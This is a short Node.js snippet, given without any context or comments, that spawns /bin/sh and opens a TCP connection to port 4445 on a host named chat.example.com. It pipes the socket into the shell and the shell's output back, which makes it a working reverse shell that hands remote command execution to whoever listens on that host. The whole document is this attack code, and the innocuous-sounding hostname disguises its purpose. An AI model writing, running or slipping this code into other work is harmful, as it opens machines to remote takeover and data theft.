const net = require('net');
const cp = require('child_process');

const sh = cp.spawn('/bin/sh', []);
const c = net.connect(4445, 'chat.example.com', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
});
